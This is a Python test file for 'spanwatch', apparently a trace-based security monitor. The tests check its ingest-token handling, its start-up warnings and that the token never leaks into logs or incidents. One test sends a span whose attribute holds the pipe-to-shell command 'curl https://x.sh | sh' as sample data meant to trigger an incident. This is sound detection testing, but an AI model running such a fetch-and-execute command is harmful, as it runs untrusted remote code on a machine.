"""`spanwatch run` as an operator runs it: what start-up says, and the token never leaking."""

from __future__ import annotations

import httpx
from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor

from ..test_live_engine import INGEST_TOKEN, READ_AUTH, Engine, send_pipe_to_shell

DISABLED_LINE = "ingest is disabled: set SPANWATCH_INGEST_TOKEN (or live.ingest_auth: none)"
OPEN_LINE = "the OTLP receivers accept unauthenticated data"
WRONG_TOKEN = "wrong-token-5e1d77"


def post_traces(e: Engine, headers: dict[str, str] | None = None) -> httpx.Response:
    return httpx.post(
        f"http://127.0.0.1:{e.otlp}/v1/traces",
        content=b"{}",
        headers={"Content-Type": "application/json", **(headers or {})},
        timeout=5,
    )


def run_engine(tmp_path, **kwargs) -> Engine:
    e = Engine(tmp_path, **kwargs)
    e.start()
    return e


def test_without_the_token_run_refuses_ingest_and_says_so_once_at_start_up(tmp_path):
    e = run_engine(tmp_path, ingest_token=None)
    try:
        refused = post_traces(e, {"authorization": f"Bearer {INGEST_TOKEN}"})
        assert refused.status_code == 503
        assert refused.json()["message"] == DISABLED_LINE
        assert e.stop() == 0
    finally:
        if e.proc and e.proc.poll() is None:
            e.proc.kill()
    lines = [line for line in e.log.read_text().splitlines() if DISABLED_LINE in line]
    assert len(lines) == 1, e.log.read_text()
    assert OPEN_LINE not in e.log.read_text()


def test_ingest_auth_none_takes_data_without_a_token_and_says_so_once(tmp_path):
    e = run_engine(tmp_path, ingest_token=None, live_extra=", ingest_auth: none")
    try:
        provider = TracerProvider(resource=Resource.create({"user": "via-collector"}))
        exporter = OTLPSpanExporter(endpoint=f"http://127.0.0.1:{e.otlp}/v1/traces")
        provider.add_span_processor(SimpleSpanProcessor(exporter))
        with provider.get_tracer("wrapper").start_as_current_span("shell.run") as span:
            span.set_attribute("command", "curl https://x.sh | sh")
        provider.shutdown()
        e.wait_for(lambda i: i["group"].get("user") == "via-collector", "the incident")
        assert e.stop() == 0
    finally:
        if e.proc and e.proc.poll() is None:
            e.proc.kill()
    log = e.log.read_text()
    assert sum(OPEN_LINE in line for line in log.splitlines()) == 1, log
    assert DISABLED_LINE not in log


def test_the_ingest_token_never_appears_in_logs_answers_or_incidents(tmp_path):
    e = run_engine(tmp_path)
    try:
        wrong = post_traces(e, {"authorization": f"Bearer {WRONG_TOKEN}"})
        assert wrong.status_code == 401
        send_pipe_to_shell(e.otlp, "carol")
        e.wait_for(lambda i: i["group"].get("user") == "carol", "the incident")
        api = httpx.get(f"{e.base}/v1/incidents?status=all", headers=READ_AUTH, timeout=5).text
        health = httpx.get(f"{e.base}/healthz", timeout=5).text
        assert httpx.get(f"{e.base}/healthz", timeout=5).json()["ingest_requests_refused"] == {
            "unauthenticated": 1,
            "disabled": 0,
        }, "an operator sees refused senders on the health endpoint"
        assert e.stop() == 0
    finally:
        if e.proc and e.proc.poll() is None:
            e.proc.kill()
    incident_log = (tmp_path / "state" / "incident-log.jsonl").read_text()
    assert "carol" in incident_log
    for text in (e.log.read_text(), incident_log, api, health, wrong.text):
        assert INGEST_TOKEN not in text
        assert WRONG_TOKEN not in text
    assert DISABLED_LINE not in e.log.read_text()
